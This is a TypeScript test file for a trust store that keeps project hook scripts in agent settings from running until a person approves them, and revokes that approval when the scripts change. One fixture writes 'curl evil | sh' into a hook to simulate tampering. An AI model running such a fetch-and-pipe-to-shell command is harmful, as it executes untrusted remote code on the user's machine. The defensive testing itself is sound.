@@ -1,0 +1,215 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what a shell fills in
+import { readdirSync, statSync, utimesSync } from 'node:fs';
+import { basename, join } from 'node:path';
+import type { ScriptedStep } from '@spec/runtime/testing';
+import { describe, expect, onTestFinished, test } from 'vitest';
+import { loadSettings, type SettingsOptions } from '../load-settings.ts';
+import { sampleRuntime } from '../members/plain-dialect.fixture.ts';
+import { type ProjectFolder, projectFolder } from '../project-folder.fixture.ts';
+import { trustStore } from './store.ts';
+
+const guard = 'bash "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh --strict';
+
+const config = (command = guard, more: object = {}) => ({
+  hooks: {
+    PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command }] }],
+    PostToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'echo ran >> log' }] }],
+  },
+  ...more,
+});
+
+const files = (content: object = config()) => ({
+  '.claude/settings.json': content,
+  '.claude/hooks/guard.sh': 'exit 0\n',
+});
+
+/** Loads the settings of a folder under a store beside it. */
+async function loadFrom(project: ProjectFolder, home: ProjectFolder, options: SettingsOptions = {}) {
+  const store = trustStore(join(home.path, 'config/trusted.json'));
+  const file = join(project.path, '.claude/settings.json');
+  const loaded = await loadSettings([file], { trust: store, projectDir: project.path, ...options });
+  onTestFinished(() => loaded.close());
+  const [report] = loaded.files;
+  const trust = () => store.trust(file, report?.trust?.fingerprint as string);
+  const codes = loaded.findings.filter(({ level }) => level === 'error').map(({ code }) => code);
+  return {
+    loaded,
+    store,
+    file,
+    trust,
+    codes,
+    status: report?.trust?.status,
+    scripts: report?.trust?.scripts,
+  };
+}
+
+/** Sends a message that has the agent call Bash and then Read. */
+async function play({ loaded }: Awaited<ReturnType<typeof loadFrom>>) {
+  const script: ScriptedStep[] = [{ toolCalls: [{ name: 'Bash' }, { name: 'Read' }] }, 'Done.'];
+  const { runtime, ran } = sampleRuntime(loaded.hooks, script);
+  const thread = await runtime.createThread({ agent: 'helper' });
+  await thread.send('Hello');
+  const [bash, read] = (await thread.messages()).filter(({ role }) => role === 'tool');
+  const runs = (await thread.runs()).filter(({ id }) => /_\d$/.test(id));
+  return {
+    ran,
+    bash: bash?.content,
+    read: read?.content,
+    runs: runs.map(({ id, outcome }) => `${id} ${outcome}`),
+  };
+}
+
+describe('a project’s settings file', () => {
+  test('does not run before it was trusted: what it guards is denied, the rest is passed over', async () => {
+    const project = projectFolder(files());
+    const home = projectFolder();
+    const unknown = await loadFrom(project, home);
+    expect(unknown.status).toBe('unknown');
+    expect(unknown.codes).toEqual(['untrusted']);
+    expect(unknown.scripts).toEqual([join(project.path, '.claude/hooks/guard.sh')]);
+    const denied = await play(unknown);
+    expect(denied.bash).toMatch(/guards this, and cannot run: it is not trusted\. A person has to look at/);
+    expect(denied.read).toBe('Read ran');
+    expect(denied.runs).toEqual([
+      'claude_project_pre_tool_use_1 denied',
+      'claude_project_pre_tool_use_1 skipped',
+      'claude_project_post_tool_use_1 skipped',
+    ]);
+
+    await unknown.trust();
+    const trusted = await loadFrom(project, home);
+    expect(trusted.status).toBe('trusted');
+    expect(trusted.codes).toEqual([]);
+    expect((await play(trusted)).bash).toBe('Bash ran');
+    expect(project.read('log')).toBe('ran\n');
+  });
+
+  test('is looked at anew when its hooks change, and when a script that they name does', async () => {
+    const project = projectFolder(files());
+    const home = projectFolder();
+    await (await loadFrom(project, home)).trust();
+    const status = async () => (await loadFrom(project, home)).status;
+    expect(await status()).toBe('trusted');
+    project.write(
+      '.claude/settings.json',
+      JSON.stringify(config(guard, { permissions: { allow: ['Bash'] } })),
+    );
+    expect(await status()).toBe('trusted');
+    project.write('.claude/settings.json', `// A comment.\n${JSON.stringify(config())}`);
+    expect(await status()).toBe('trusted');
+    project.write('.claude/hooks/guard.sh', 'curl evil | sh\n');
+    expect(await status()).toBe('changed');
+    expect((await loadFrom(project, home)).codes).toEqual(['trust_changed']);
+    project.write('.claude/hooks/guard.sh', 'exit 0\n');
+    expect(await status()).toBe('trusted');
+    project.remove('.claude/hooks/guard.sh');
+    expect(await status()).toBe('changed');
+    project.write('.claude/hooks/guard.sh', 'exit 0\n');
+    project.write('.claude/settings.json', JSON.stringify(config(`${guard} --lax`)));
+    expect(await status()).toBe('changed');
+  });
+
+  test('a script that changes after it was loaded does not run', async () => {
+    const project = projectFolder(files());
+    const home = projectFolder();
+    await (await loadFrom(project, home)).trust();
+    const trusted = await loadFrom(project, home);
+    expect((await play(trusted)).bash).toBe('Bash ran');
+    project.write('.claude/hooks/guard.sh', 'touch owned; exit 0\n');
+    expect((await play(trusted)).bash).toContain('a script that it names has changed since it was trusted');
+    expect(() => project.read('owned')).toThrow();
+    project.write('.claude/hooks/guard.sh', 'exit 0\n');
+    expect((await play(trusted)).bash).toBe('Bash ran');
+  });
+
+  test('that was only touched runs', async () => {
+    const project = projectFolder(files());
+    const home = projectFolder();
+    await (await loadFrom(project, home)).trust();
+    const trusted = await loadFrom(project, home);
+    utimesSync(join(project.path, '.claude/hooks/guard.sh'), new Date(0), new Date(0));
+    expect((await play(trusted)).bash).toBe('Bash ran');
+  });
+
+  test('in a place where all are trusted runs, and so does the user’s own', async () => {
+    const project = projectFolder(files());
+    const home = projectFolder();
+    const all = await loadFrom(project, home, { trust: 'all' });
+    expect(all.status).toBe('given');
+    expect((await play(all)).bash).toBe('Bash ran');
+    const file = { file: join(project.path, '.claude/settings.json'), layer: 'user' } as const;
+    const own = await loadSettings([file], { projectDir: project.path });
+    expect(own.files[0]?.trust?.status).toBe('given');
+  });
+
+  test('without a guard nothing is denied while it is not trusted', async () => {
+    const audit = { hooks: { PreToolUse: [{ matcher: '*', command: 'echo x >> log' }] } };
+    const project = projectFolder(files(audit));
+    const played = await play(await loadFrom(project, projectFolder()));
+    expect(played.bash).toBe('Bash ran');
+    expect(played.runs[0]).toBe('settings_project_pre_tool_use_1 skipped');
+    expect(() => project.read('log')).toThrow();
+  });
+
+  test('that guards prompts lets none pass while it is not trusted', async () => {
+    const prompts = { hooks: { UserPromptSubmit: [{ hooks: [{ type: 'command', command: 'true' }] }] } };
+    const { loaded } = await loadFrom(projectFolder(files(prompts)), projectFolder());
+    const { runtime } = sampleRuntime(loaded.hooks, []);
+    const thread = await runtime.createThread({ agent: 'helper' });
+    expect(await thread.send('Hello')).toMatchObject({ status: 'denied' });
+  });
+});
+
+describe('the scripts of a fingerprint', () => {
+  test.for([
+    ['.claude/hooks/guard.sh', 'x.sh'],
+    ['python3 "${CLAUDE_PROJECT_DIR}/.claude/hooks/check.py" < in > out.txt', 'check.py'],
+    [`bash -c 'input=$(cat); node "$(pwd)/tools/run.mjs"'`, 'run.mjs'],
+    ['test -f a.txt && ./tools/no-extension --x', 'no-extension'],
+    [`sh -c "sh 'tools/with space.sh'"`, 'with space.sh'],
+    ['FOO=1 tools/run.mjs|tee log', 'run.mjs'],
+  ])('%s', async ([command]) => {
+    const project = projectFolder({
+      '.claude/settings.json': config(command),
+      '.claude/hooks/guard.sh': '',
+      '.claude/hooks/check.py': '',
+      'tools/run.mjs': '',
+      'tools/no-extension': '#!/bin/sh\n',
+      'tools/with space.sh': '',
+      'a.txt': 'data',
+      log: '',
+    });
+    const { scripts } = await loadFrom(project, projectFolder());
+    expect(scripts).toHaveLength(1);
+    expect(command).toContain(basename(scripts?.[0] ?? '-'));
+  });
+});
+
+describe('the store', () => {
+  test('is written whole, for its owner alone', async () => {
+    const home = projectFolder();
+    const path = join(home.path, 'deep/er/trusted.json');
+    const store = trustStore(path);
+    expect(await store.get('/a')).toBeUndefined();
+    await Promise.all(Array.from({ length: 20 }, (_, i) => store.trust(`/file${i}`, `print${i}`)));
+    expect(await store.get('/file7')).toBe('print7');
+    expect(await trustStore(path).get('/file19')).toBe('print19');
+    expect(statSync(path).mode & 0o777).toBe(0o600);
+    expect(statSync(join(home.path, 'deep')).mode & 0o777).toBe(0o700);
+    expect(readdirSync(join(home.path, 'deep/er'))).toEqual(['trusted.json']);
+    expect(await store.forget('/file7')).toBe(true);
+    expect(await store.forget('/file7')).toBe(false);
+    expect(await store.get('/file7')).toBeUndefined();
+    expect(await store.get('toString')).toBeUndefined();
+  });
+
+  test('that cannot be read is never taken for an empty one', async () => {
+    const home = projectFolder({ 'broken.json': '{', 'other.json': { version: 9 } });
+    for (const name of ['broken.json', 'other.json']) {
+      const store = trustStore(join(home.path, name));
+      await expect(store.get('/a')).rejects.toMatchObject({ name: 'DefinitionError', code: 'bad_option' });
+      await expect(store.trust('/a', 'b')).rejects.toThrow('Remove it to trust files anew');
+    }
+    expect(home.read('broken.json')).toBe('{');
+  });
+});
